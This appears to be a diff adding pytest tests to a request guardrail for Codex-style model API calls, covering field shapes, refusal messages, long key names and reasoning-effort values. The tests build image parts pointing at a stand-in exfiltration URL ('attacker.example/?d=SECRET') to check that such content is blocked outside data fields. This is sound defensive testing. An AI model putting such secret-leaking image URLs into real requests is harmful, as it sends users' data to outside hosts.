@@ -192,6 +192,120 @@ def test_what_the_provider_would_have_to_find_ends_the_run(item, reason):
     assert reason in verdict.message
 
 
+# JSON that is data to whoever reads it; nothing else may hold a list or an object but those whose
+# every key is known.
+DATA_PLACES = {
+    "request.text.format.schema",
+    "item.arguments of tool_search_call",
+    "part.annotations of output_text",
+    "part.logprobs of output_text",
+    "tool.parameters of function",
+    "tool.parameters of tool_search",
+}
+FLAT_PLACES = {  # any names, but texts only
+    "request.client_metadata",
+    "item.action.env of local_shell_call",
+    "item.action.env of web_search_call",
+}
+REMOTE_URL = "https://attacker.example/?d=SECRET"
+REMOTE = {
+    "parts": [image(REMOTE_URL)],
+    "a part": image(REMOTE_URL),
+    "a message": [user(image(REMOTE_URL))],
+    "a map of parts": {"a": [image(REMOTE_URL)]},
+    "a list of lists": [[REMOTE_URL]],
+    "a key": {"api_base": [REMOTE_URL]},
+}
+
+
+def places():
+    """Yield each place of the table, and the change of a request that brings a value to it."""
+
+    def with_objects(holder, key, name, kind, wrap):
+        yield f"{name}.{key}{kind}", lambda value: wrap({**holder, key: value})
+        for inner in shape.OBJECTS.get(f"{name}.{key}", ()):
+            yield from with_objects(
+                {}, inner, f"{name}.{key}", kind, lambda value: wrap({**holder, key: value})
+            )
+
+    for key in shape.REQUEST:
+        yield from with_objects({}, key, "request", "", lambda change: change)
+    for kind, keys in shape.ITEMS.items():
+        for key in keys:
+            yield from with_objects(
+                {"type": kind}, key, "item", f" of {kind}", lambda item: {"input": [item]}
+            )
+    for kind, keys in shape.PARTS.items():
+        for key in keys:
+            yield from with_objects(
+                {"type": kind}, key, "part", f" of {kind}", lambda part: {"input": [user(part)]}
+            )
+    for kind, keys in shape.TOOLS.items():
+        for key in keys:
+            yield from with_objects(
+                {"type": kind}, key, "tool", f" of {kind}", lambda tool: {"tools": [tool]}
+            )
+
+
+WEB = Limits(models=frozenset({"m"}), tools=frozenset({"shell", "web_search"}))
+
+
+@pytest.mark.parametrize(
+    ("place", "change"), list(places()), ids=lambda value: value if isinstance(value, str) else ""
+)
+def test_no_place_takes_content_that_codex_does_not_send_there(place, change):
+    """A server may read a list of parts as content wherever it stands, and fetch what it names."""
+    passed = []
+    for name, value in REMOTE.items():
+        verdict = judge(WEB, **change(value))
+        if isinstance(verdict, Denied):
+            assert (verdict.code, verdict.final) == ("guardrail", True)
+        elif REMOTE_URL.encode() in verdict.body:
+            passed.append(name)
+    if place in DATA_PLACES:
+        assert passed == list(REMOTE)
+    else:
+        assert passed == (["a part"] if place in FLAT_PLACES else [])
+
+
+NO_TEXTS = [
+    ({"instructions": [user(image(REMOTE_URL))]}, "instructions must be a text"),
+    ({"prompt_cache_key": {"a": 1}}, "prompt_cache_key must be a text"),
+    ({"client_metadata": {"fallbacks": ["o1-pro"]}}, "client_metadata must be an object whose"),
+    ({"client_metadata": "x"}, "client_metadata must be an object whose values are texts"),
+    ({"parallel_tool_calls": {}}, "parallel_tool_calls must be a boolean or a number"),
+    ({"text": {"verbosity": []}}, "text.verbosity must be a text"),
+    ({"input": [user(text({"image_url": REMOTE_URL}))]}, "part.text must be a text"),
+    (
+        {"input": [{"type": "custom_tool_call", "name": "n", "input": [image(REMOTE_URL)]}]},
+        "item.input must be a text",
+    ),
+    (
+        {"input": [{"type": "function_call", "name": "n", "arguments": image(REMOTE_URL)}]},
+        "item.arguments must be a text",
+    ),
+    (
+        {"input": [{"type": "local_shell_call", "action": {"command": [[]]}}]},
+        "item.action.command must be a list of texts",
+    ),
+    ({"tools": [tool(["exec_command"])]}, "tool.name must be a text"),
+    ({"tools": [tool(description=["d"])]}, "tool.description must be a text"),
+]
+
+
+@pytest.mark.parametrize(("change", "reason"), NO_TEXTS, ids=[row[1] for row in NO_TEXTS])
+def test_a_refusal_names_the_key_that_has_no_text(change, reason):
+    verdict = judge(**change)
+    assert isinstance(verdict, Denied)
+    assert (verdict.code, verdict.final, reason in verdict.message) == ("guardrail", True, True)
+
+
+@pytest.mark.parametrize("scheme", ["data:", "DATA:", "Data:", "dAtA:"])
+def test_a_scheme_is_read_in_any_case(scheme):
+    conversation = [user(image(f"{scheme}image/png;base64,AAAA"))]
+    assert sent(input=conversation)[0]["input"] == conversation
+
+
 HOSTED = [
     "x_search",
     "code_execution",
@@ -353,7 +467,7 @@ def test_ids_pass_with_whole_items():
 @pytest.mark.parametrize("kind", sorted(shape.ITEMS))
 def test_an_id_without_the_item_is_no_reference(kind):
     """What the provider has stored under it would come into the conversation."""
-    sealed = {} if kind in {"reasoning", "compaction", "context_compaction"} else "junk"
+    sealed = "" if kind in {"reasoning", "compaction", "context_compaction"} else "junk"
     hollow = {"type": kind, "id": "x_1", "encrypted_content": sealed, "result": "", "status": "s"}
     body, _ = sent(input=[hollow])
     assert "id" not in body["input"][0]
@@ -365,6 +479,57 @@ def test_only_known_values_are_included():
     assert body["include"] == ["reasoning.encrypted_content"]
     assert len(dropped) == 3
     assert sent(include="file_search_call.results")[0]["include"] == []
+
+
+OFFERS = json.loads((Path(__file__).parents[2] / "support/codex_offers.json").read_bytes())
+OFFERED_EFFORTS = {
+    effort
+    for version in OFFERS.values()
+    for model in version["models"].values()
+    for effort in model["efforts"]
+}
+LONG = "x" * 10**6
+LONG_NAMES = [
+    {"include": [LONG]},
+    {"include": LONG},
+    {"include": [[LONG], {"a": LONG}]},
+    {LONG: 1},
+    {"input": [{**user(), LONG: 1}]},
+    {"text": {LONG: 1}},
+]
+
+
+@pytest.mark.parametrize("change", LONG_NAMES, ids=lambda change: str(change)[:40])
+def test_the_name_of_what_is_taken_out_is_short_whatever_was_sent(change):
+    dropped = sent(**change)[1]
+    assert dropped
+    assert all(len(name) < 200 for name in dropped)
+
+
+def test_of_many_that_are_taken_out_only_some_are_named():
+    many = {f"k{n}": 1 for n in range(10_000)}
+    dropped = sent(**many)[1]
+    assert (len(dropped), len(set(dropped)) <= shape.MAX_NAMED_KEYS + 1) == (10_000, True)
+    assert dropped[0] == "request.k0"
+
+
+class Counted(str):
+    """A text that counts how often it is compared."""
+
+    comparisons = 0
+    __hash__ = str.__hash__
+
+    def __eq__(self, other):
+        Counted.comparisons += 1
+        return str.__eq__(self, other)
+
+
+def test_each_value_of_include_is_looked_up_once():
+    known = "reasoning.encrypted_content"
+    body = {"include": [Counted(known)] * 100 + [Counted("x" + known)] * 100}
+    assert len(shape.drop_unknown(body)) == 100
+    assert Counted.comparisons <= 200
+    assert body["include"] == [known] * 100
 
 
 EFFORTS = [
@@ -393,10 +558,24 @@ def test_efforts_are_those_of_the_job_type(change, allowed):
     if not allowed:
         assert "this run may use low, medium" in verdict.message
     effort = change["reasoning"] and change["reasoning"].get("effort")
-    assert isinstance(judge(**change), Admitted), f"without a list any: {effort}"
+    is_text = isinstance(effort, str | None)
+    assert isinstance(judge(**change), Admitted) == is_text, f"without a list any: {effort}"
 
 
-LONG = "x" * 10**6
+@pytest.mark.parametrize("listed", sorted(OFFERED_EFFORTS))
+def test_a_listed_effort_passes_as_codex_sends_it_and_no_other_does(listed):
+    """Codex offers `ultra`, and sends something else: which depends on the model, and on whether
+    this version of Codex knows it."""
+    limits = Limits(models=frozenset({"m"}), efforts=frozenset({listed}))
+    sent_efforts = {listed} | ({"max", "xhigh", "medium"} if listed == "ultra" else set())
+    passed = {
+        effort
+        for effort in OFFERED_EFFORTS | {"none", "minimal"}
+        if isinstance(judge(limits, input=[], reasoning={"effort": effort}), Admitted)
+    }
+    assert passed == sent_efforts
+
+
 LONG_VALUES = [
     {"model": LONG},
     {"service_tier": LONG},
